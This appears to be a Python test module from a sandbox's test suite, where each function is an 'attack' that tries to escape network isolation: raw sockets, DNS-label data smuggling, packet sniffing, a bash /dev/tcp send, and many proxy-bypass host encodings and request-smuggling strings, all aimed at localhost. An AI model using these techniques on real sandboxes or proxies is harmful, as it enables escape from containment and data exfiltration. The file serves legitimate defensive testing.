"""Attacks that reach for the network: every way to open, send, listen and overhear."""

from __future__ import annotations

import os
import socket
import struct
import sys

from tests.sandbox.attack import Category, Stage, attack
from tests.sandbox.attacks.secrets import as_root
from tests.sandbox.faces import Shot
from tests.sandbox.guest import HELD, Scene, ask_proxy, broker_number, hold, run
from tests.sandbox.judges import flagged, heard, holds, leaked

NETWORK = Category.NETWORK


@attack(NETWORK, "connects by TCP", heard)
def connect_tcp(s: Scene) -> None:
    socket.create_connection(("127.0.0.1", s.tcp), 2).sendall(s.tag.encode())


@attack(NETWORK, "connects by TCP over IPv6", heard)
def connect_tcp6(s: Scene) -> None:
    socket.create_connection(("::1", s.tcp6), 2).sendall(s.tag.encode())


@attack(NETWORK, "connects to IPv4 through a socket of IPv6", heard)
def connect_mapped(s: Scene) -> None:
    with socket.socket(socket.AF_INET6) as client:
        client.settimeout(2)
        client.connect(("::ffff:127.0.0.1", s.tcp))
        client.sendall(s.tag.encode())


@attack(NETWORK, "connects by multipath TCP", heard)
def connect_mptcp(s: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as client:
        client.settimeout(2)
        client.connect(("127.0.0.1", s.tcp))
        client.sendall(s.tag.encode())


@attack(NETWORK, "sends data with the opening packet, without connect", heard)
def connect_by_fast_open(s: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 2, 0))
        client.sendto(s.tag.encode(), 0x20000000, ("127.0.0.1", s.tcp))  # MSG_FASTOPEN


@attack(NETWORK, "sends a datagram", heard)
def send_udp(s: Scene) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(s.tag.encode(), ("127.0.0.1", s.udp))


@attack(NETWORK, "sends a datagram over IPv6", heard)
def send_udp6(s: Scene) -> None:
    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(s.tag.encode(), ("::1", s.udp6))


@attack(NETWORK, "sends a datagram with partial checksums", heard)
def send_udplite(s: Scene) -> None:
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    sender.sendto(s.tag.encode(), ("127.0.0.1", s.udplite))


@attack(NETWORK, "carries data out in the name of a DNS question", heard)
def ask_dns(s: Scene) -> None:
    label = s.tag.encode()
    question = bytes([len(label)]) + label + b"\x07example\x00" + struct.pack(">HH", 16, 1)
    head = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.sendto(head + question, ("127.0.0.1", s.udp))


@attack(NETWORK, "builds an IP packet by hand", heard, ready=as_root)
def send_raw(s: Scene) -> None:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    data = s.tag.encode()
    udp = struct.pack(">HHHH", 4000, s.udp, 8 + len(data), 0) + data
    home = socket.inet_aton("127.0.0.1")
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0, home, home)
    raw.sendto(head + udp, ("127.0.0.1", 0))


@attack(NETWORK, "overhears what other programs send", leaked("chatter"), ready=as_root)
def overhear(s: Scene) -> None:
    import time

    ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    ear.bind(("lo", 0))
    ear.settimeout(1)
    until = time.monotonic() + 0.3
    while time.monotonic() < until:
        print(ear.recv(2000).decode("latin-1"))


@attack(NETWORK, "sends with a program it starts", heard)
def send_by_program(s: Scene) -> None:
    code = f"import socket; socket.create_connection(('127.0.0.1', {s.tcp})).sendall(b'{s.tag}')"
    print(run(sys.executable, "-I", "-S", "-c", code))


@attack(NETWORK, "sends with the shell's own network files", heard)
def send_by_shell(s: Scene) -> None:
    print(run("/bin/bash", "-c", f"echo {s.tag} > /dev/tcp/127.0.0.1/{s.tcp}"))


@attack(NETWORK, "sends through a proxy named by a variable of its own", heard)
def send_by_proxy_variable(s: Scene) -> None:
    import urllib.request

    os.environ["http_proxy"] = f"http://127.0.0.1:{s.tcp}"
    try:
        urllib.request.urlopen(f"http://{s.tag}.example/", timeout=1)
    finally:
        del os.environ["http_proxy"]


async def visited(stage: Stage) -> Shot:
    """Run the cell, then connect to the port that it serves."""
    shot: Shot = await stage.face.run(stage.cell, stage.attack.timeout, stage.tag)
    for line in shot.text.splitlines():
        if not line.strip().isdigit():
            continue
        try:
            with socket.create_connection(("127.0.0.1", int(line)), 2) as visitor:
                if visitor.recv(100).decode("latin-1") == stage.tag:
                    shot.notes = {"served": "the child serves a port of the machine"}
        except OSError:
            pass
    return shot


@attack(NETWORK, "serves a port of the machine", flagged("served"), ritual=visited)
def serve_port(s: Scene) -> None:
    import threading

    server = socket.create_server(("127.0.0.1", 0))
    HELD.append(server)
    threading.Thread(target=lambda: server.accept()[0].sendall(s.tag.encode()), daemon=True).start()
    print(server.getsockname()[1])


@attack(NETWORK, "listens on TCP without binding first", holds("family 2 type 1"))
def listen_unbound(s: Scene) -> None:
    server = socket.socket()
    HELD.append(server)
    server.listen()


@attack(NETWORK, "gets a socket to the machine below this one", holds("family 40"))
def get_vsock(s: Scene) -> None:
    HELD.append(socket.socket(40, socket.SOCK_STREAM))


@attack(NETWORK, "gets a socket that pings", holds("family 2 type 2", "family 2 type 3"))
def get_ping(s: Scene) -> None:
    try:
        HELD.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
    except OSError:
        HELD.append(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))


@attack(NETWORK, "gets a socket to the kernel's routing table", holds("family 16"), minor=True)
def get_netlink(s: Scene) -> None:
    HELD.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))


@attack(NETWORK, "opens the device of virtual networks", holds("/dev/net/tun", "/dev/own-tun"),
        ready=lambda _: os.path.exists("/dev/net/tun") and as_root(_))  # fmt: skip
def open_tunnel(s: Scene) -> None:
    hold(os.open("/dev/net/tun", os.O_RDWR))


# -- past the proxy, with one host granted -----------------------------------------------------


def by_broker(text: str):
    """An attack on the list of granted hosts; one is granted that is not there."""
    caps = {"network": ("granted.example", "*.granted.example")}
    return attack(NETWORK, text, heard, caps=caps, executor=True)


@by_broker("asks the proxy for another host, in every way to write it")
def ask_for_other_host(s: Scene) -> None:
    forms = (
        "127.0.0.1", "localhost", "127.1", "0x7f000001", "2130706433", "0", "[::1]",
        "[::ffff:127.0.0.1]", "granted.example@127.0.0.1", "127.0.0.1#granted.example",
        "granted.example\\@127.0.0.1", "127.0.0.1\x00.granted.example", "LOCALHOST.",
        "127.0.0.1%00.granted.example", "127.0.0.1:80@granted.example",
    )  # fmt: skip
    for form in forms:
        ask_proxy(f"CONNECT {form}:{s.tcp} HTTP/1.1\r\nHost: granted.example\r\n\r\n", s.tag)


@by_broker("asks the proxy for one host in the line and another in the header")
def ask_for_two_hosts(s: Scene) -> None:
    for line in (
        f"GET http://127.0.0.1:{s.tcp}/{s.tag} HTTP/1.1\r\nHost: granted.example\r\n\r\n",
        f"GET http://granted.example/ HTTP/1.1\r\nHost: 127.0.0.1:{s.tcp}\r\n\r\n",
        f"GET http://granted.example:80@127.0.0.1:{s.tcp}/{s.tag} HTTP/1.1\r\n\r\n",
        f"GET /{s.tag} HTTP/1.1\r\nHost: 127.0.0.1:{s.tcp}\r\n\r\n",
        "CONNECT granted.example:443 HTTP/1.1\r\nX: y\r\n\r\n"
        f"CONNECT 127.0.0.1:{s.tcp} HTTP/1.1\r\n\r\n",
        f"CONNECT granted.example:443\r\n\r\nGET http://127.0.0.1:{s.tcp}/{s.tag} HTTP/1.1\r\n\r\n",
    ):
        ask_proxy(line, s.tag)


@by_broker("sends the proxy descriptors that are no connections")
def send_odd_descriptors(s: Scene) -> None:
    import array

    broker = socket.socket(fileno=os.dup(broker_number()))
    reading, _ = os.pipe()
    listener = socket.socket(socket.AF_UNIX)
    odd = [reading, os.open("/dev/zero", os.O_RDONLY), listener.fileno(), broker.fileno()]
    for numbers in ([], odd, odd * 20, [odd[1]], [odd[3]]):
        ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", numbers))]
        broker.sendmsg([b"x"], ancillary if numbers else [])
    ask_proxy(f"CONNECT 127.0.0.1:{s.tcp} HTTP/1.1\r\n\r\n", s.tag)
